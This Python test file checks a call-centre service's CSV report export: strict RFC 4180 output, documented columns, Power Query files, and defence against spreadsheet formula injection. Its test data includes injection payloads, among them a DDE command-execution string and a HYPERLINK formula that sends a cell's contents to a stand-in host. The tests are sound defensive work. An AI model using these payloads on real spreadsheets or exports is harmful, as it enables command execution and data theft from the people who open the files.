"""S38, S44, C11 Reports as files: RFC 4180 by the letter whatever owners and agents write, and documents that tell the truth."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from kit import rfc4180, team
from kit.calls import stamp
from kit.client import Client
from kit.contract import DOCUMENT, REPOSITORY
from kit.numbers import ANNA
from kit.process import Callcard, Launcher
from kit.settings import Settings
from kit.team import ALL_WIDGETS, BEN, OLGA, PIA

DOCS = REPOSITORY / "docs"
PATH = "/v1/reports/interactions"
ROW = DOCUMENT["components"]["schemas"]["ReportRow"]
SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\r", "\n"]
"""What begins a formula somewhere; the last three are skipped before one."""
SEPARATORS = ["", ";", "\t", ",", "|", '"', "\r", "\n", "\r\n"]
"""Behind which some spreadsheet of the world begins a cell; the first is the beginning."""
BLANK = r"[\s\u200b\u0000-\u001f\u007f]*"
HOSTILE = [
    *(f"vip{separator}{sign}1+1" for separator in SEPARATORS[1:] for sign in ("=", "@", "\uff1d")), "vip; =1", 'a;"=1', "a;;-1", "a;\t=1",
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("https://a.example/?x="&A1,"y")', "=cmd|' /C calc'!A0",
    "\uff1dA1", 'a "quoted", name', '"', '""', ",", "a\r\nb", "a\nb", "a\rb", "a\tb", "'", "a;b", "\u2028", "\u0085", "b\u007f",
]  # fmt: skip
"""Names that owners may give."""
TAGS = ["vip;=1+1", "a|=b", 'a"=1', "vip; +1", "=1+1", "+cmd", "-x", "@SUM(1)", 'say "hello"', "a, b", "a;b", "'quoted'", '"', "\uff1d1", "x,\"y\",z"]
M_TYPES = {"text": "type text", "time": "type datetimezone", "whole number": "Int64.Type"}


@pytest.fixture
def server(launcher: Launcher) -> Callcard:
    """A service with tags and without codes."""
    installation = team.installation(launcher)
    installation.add_service("sales", ["contacts"], **team.settings(widgets=ALL_WIDGETS | {"codes": False}))
    return launcher.start(installation)


def records(client: Client, query: str = "") -> list[list[str]]:
    """A report's records, as two strict readers agree to see them."""
    answer = client.get(f"{PATH}{query}", headers={"Accept": "text/csv"})
    assert answer.status == 200 and answer.headers["content-type"] == "text/csv; charset=utf-8"
    read = rfc4180.read(answer.body)
    assert list(csv.reader(io.StringIO(answer.body.decode(), newline=""), strict=True)) == read
    return read


def marked(text: str) -> str:
    """A text as docs/reports.md says that a cell has it."""
    text = re.sub(rf"""(^|[;,|"\t\r\n\u2028\u0085]{BLANK})(?=[=+\-@\uff1d\uff0b\uff0d\uff20])""", r"\1'", text)
    return re.sub(r"(^|[;,|\"])(?=[\t\r\n])", r"\1'", text)


def begins_no_formula(body: bytes) -> None:
    """Fails where a spreadsheet would compute something, wherever it divides lines, and whatever quotes are to it."""
    text = body.decode()
    assert not [part for part in re.split(r"""[;,|"\t\r\n\u2028\u0085]""", text) if re.match(rf"{BLANK}[=+\-@\uff1d\uff0b\uff0d\uff20]", part)]
    for delimiter in (",", ";", "\t", "|"):
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            assert not [cell for cell in line if re.match(rf'["{BLANK[1:-2]}]*[=+\-@\uff1d\uff0b\uff0d\uff20]', cell)], (delimiter, line)


def documented() -> list[dict[str, str]]:
    """The table of columns in docs/reports.md."""
    lines = (DOCS / "reports.md").read_text().partition("## Columns")[2].partition("\n\n**CSV**")[0].splitlines()
    table = [[cell.strip() for cell in line.strip("|").split("|")] for line in lines if line.startswith("|")]
    heading, ruler, *rows = table
    assert heading == ["Column", "Type", "Unit", "Meaning", "Empty"] and len(ruler) == len(heading)
    return [dict(zip(heading, row, strict=True)) | {"Column": row[0].strip("`")} for row in rows]


def query(name: str) -> str:
    """A Power Query text without its comments."""
    return re.sub(r"//[^\n]*", "", (DOCS / "reports" / f"{name}.pq").read_text())


def test_c11_the_reader_is_strict() -> None:
    """The checker itself: it reads what is good, and takes nothing that is not."""
    assert rfc4180.read(b'a,"b ""c"", d\r\ne",\r\n') == [["a", 'b "c", d\r\ne', ""]]
    for bad in (b"a,b", b"a,b\n", b"a\rb\r\n", b'a"b\r\n', b'"a"b\r\n', b'"a\r\n', b"a\tb\r\n", b"a\r\nb,c\r\n", b"\xef\xbb\xbfa\r\n"):
        with pytest.raises(AssertionError):
            rfc4180.read(bad)


@pytest.mark.parametrize("name", HOSTILE, ids=ascii)
def test_c11_hostile_names(server: Callcard, name: str) -> None:
    """C11, F8: a service's name is its owner's: whatever is in it stays in its cell, and begins no formula."""
    olga = server.client(server.installation.people[OLGA])
    Settings(olga, "sales").change(displayName=name)
    call = team.call(server, service="sales").accepted(PIA).ended()
    heading, row = records(server.operator())
    cells = dict(zip(heading, row, strict=True))
    assert cells["session"] == call.session
    assert cells["serviceName"] == marked(name)
    assert not [cell for cell in row if cell[:1] in SIGNS]
    begins_no_formula(server.operator().get(PATH, headers={"Accept": "text/csv"}).body)
    assert server.operator().get(PATH).json["items"][0]["serviceName"] == name, "JSON has it as it is"


def test_c11_hostile_codes(server: Callcard) -> None:
    """C11, F8: ids of codes too."""
    olga = server.client(server.installation.people[OLGA])
    for index, code in enumerate(HOSTILE):
        codes = {"primary": [{"id": code, "name": "x"}], "secondary": [{"id": f"{code}2", "name": "x"}]}
        Settings(olga).change(codes=codes)
        call = team.call(server).accepted(PIA, at=index).ended(at=60)
        team.desk(server).saved(call, primaryCode=code, secondaryCode=f"{code}2")
    heading, *rows = records(server.operator())
    at = heading.index("primaryCode")
    assert [row[at] for row in rows] == [marked(code) for code in HOSTILE]
    assert [row[at + 1] for row in rows] == [f"{row[at]}2" for row in rows]
    begins_no_formula(server.operator().get(PATH, headers={"Accept": "text/csv"}).body)


def test_c11_hostile_tags(server: Callcard) -> None:
    """C11, S44: each tag alone, then all of them in one cell."""
    for index, tags in enumerate([*([tag] for tag in TAGS), TAGS]):
        call = team.call(server, service="sales").accepted(PIA, at=index).ended(at=60)
        team.desk(server).saved(call, tags=tags)
    heading, *rows = records(server.operator())
    cells = [row[heading.index("tags")] for row in rows]
    expected = [*TAGS, "; ".join(TAGS)]
    assert cells == [marked(cell) for cell in expected]
    begins_no_formula(server.operator().get(PATH, headers={"Accept": "text/csv"}).body)
    found = records(server.operator(), "?tag=say%20%22hello%22")
    assert len(found) == 3 and all('say "hello"' in row[heading.index("tags")] for row in found[1:])


def test_c11_documented_columns(server: Callcard) -> None:
    """C11: the columns of docs/reports.md are those of the file, in order, and those of JSON; S38: codes are two of them."""
    columns = [row["Column"] for row in documented()]
    assert records(server.operator()) == [columns]
    assert list(ROW["properties"]) == columns
    assert {"primaryCode", "secondaryCode", "tags"} <= set(columns)


def test_c11_documented_types() -> None:
    """C11: types, units and emptiness are those of the interface's description."""
    for row in documented():
        name, schema = row["Column"], ROW["properties"][row["Column"]]
        schema = DOCUMENT["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]] if "$ref" in schema else schema
        is_time = schema.get("format") == "date-time"
        expected = "time" if is_time else "whole number" if schema.get("type") == "integer" else "text"
        unit = "UTC" if is_time else "ms" if name.endswith("Ms") else ""
        assert (row["Type"], row["Unit"]) == (expected, unit), name
        may_be_empty = name not in ROW["required"] or name in {"user", "tags"}
        assert (row["Empty"] == "never") != may_be_empty and row["Meaning"], name


def test_c11_every_outcome_is_documented() -> None:
    """C11: with the words of the interface."""
    meaning = next(row["Meaning"] for row in documented() if row["Column"] == "outcome")
    assert set(re.findall(r"[a-zA-Z]+", " ".join(re.findall(r"`([^`]*)`", meaning)))) == set(
        DOCUMENT["components"]["schemas"]["CallOutcome"]["enum"]
    )


def test_c11_power_query_columns() -> None:
    """C11: the ready query names each column, in order, with its type."""
    typed = re.findall(r'\{"(\w+)", ((?:type )?[\w.]+)\}', query("interactions"))
    assert typed == [(row["Column"], M_TYPES[row["Type"]]) for row in documented()]


def test_c11_power_query_parameters() -> None:
    """C11: what the document says to make is what the queries use; there is no key in them."""
    text, manual = query("interactions"), (DOCS / "reports.md").read_text()
    assert set(re.findall(r"\b(?:Callcard[A-Z]\w+|ReportFrom)\b", text)) == {"CallcardURL", "CallcardKey", "ReportFrom"}
    assert all(f"`{name}`" in manual for name in ("CallcardURL", "CallcardKey", "ReportFrom"))
    assert "cc_" not in text and "Interactions" in query("tags") and "https:" not in text


def pages(begin: datetime, end: datetime) -> list[tuple[str, str]]:
    """The pages that the ready query asks for, by its own figures."""
    text = query("interactions")
    days = re.search(r"DaysAPage = (\d+)", text)
    assert days and 'List.Generate(() => Begin, each _ < End, each Date.AddDays(_, DaysAPage))' in text
    assert "from = Stamp(start), to = Stamp(List.Min({Date.AddDays(start, DaysAPage), End}))" in text
    starts, step = [begin], timedelta(days=int(days[1]))
    while starts[-1] + step < end:
        starts.append(starts[-1] + step)
    return [(stamp(start), stamp(min(start + step, end))) for start in starts]


def test_c11_power_query_reads_all(server: Callcard) -> None:
    """C11: the requests of the ready query, made here: each row once, none left out, with the key where the query has it."""
    now = datetime.now(UTC)
    begin = (now - timedelta(days=95)).replace(hour=0, minute=0, second=0, microsecond=0)
    edges = [start for start, _ in pages(begin, now)]
    assert len(edges) >= 3
    starts = [datetime.fromisoformat(edge.replace("Z", "+00:00")) for edge in edges]
    starts += [start + timedelta(milliseconds=shift) for start in starts[1:] for shift in (-1, 1)] + [now - timedelta(seconds=5)]
    calls = [team.call(server, start=start).queued(at=0).offered(BEN, at=0).declined(BEN, at=0) for start in starts]
    text = query("interactions")
    headers = {"Authorization": ""}
    sent = re.search(r"Headers = \[(.*)\]", text)
    assert sent
    for name, value in re.findall(r'#?"?([\w-]+)"? = ("[^"]*"|CallcardKey)', sent[1]):
        headers[name] = server.installation.keys.operator.token if value == "CallcardKey" else value.strip('"')
    assert set(headers) == {"Authorization", "X-Api-Key", "Accept"}
    relative = re.search(r'RelativePath = "([^"]+)"', text)
    assert relative
    anonymous, found = server.anonymous(), []
    for start, end in pages(begin, now):
        answer = anonymous.get(f"/{relative[1]}?from={start}&to={end}", headers=headers)
        assert answer.status == 200 and answer.headers["content-type"] == "application/json"
        found += [row["session"] for row in answer.json["items"] if row["user"] == BEN]
    assert sorted(found) == sorted(call.session for call in calls)


def test_c11_rows_have_their_types(server: Callcard) -> None:
    """C11: every value of a real report can take the type that the document gives its column."""
    call = team.call(server, number=ANNA).queued(at=0).offered(PIA, at=4).accepted(PIA, at=9).ended(at=40)
    team.desk(server).saved(call, primaryCode="question", secondaryCode="solved", tags=["call back"])
    team.call(server, outbound=True).dialing(PIA, at=0).ringing(at=3).ended("busy", at=11)
    heading, *rows = records(server.operator())
    kinds = {row["Column"]: row["Type"] for row in documented()}
    seen: dict[str, Any] = {}
    for row in rows:
        for name, cell in zip(heading, row, strict=True):
            if cell:
                seen[name] = int(cell) if kinds[name] == "whole number" else cell
                if kinds[name] == "time":
                    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", cell)
    assert set(seen) == set(heading), "a column that this test never saw filled"
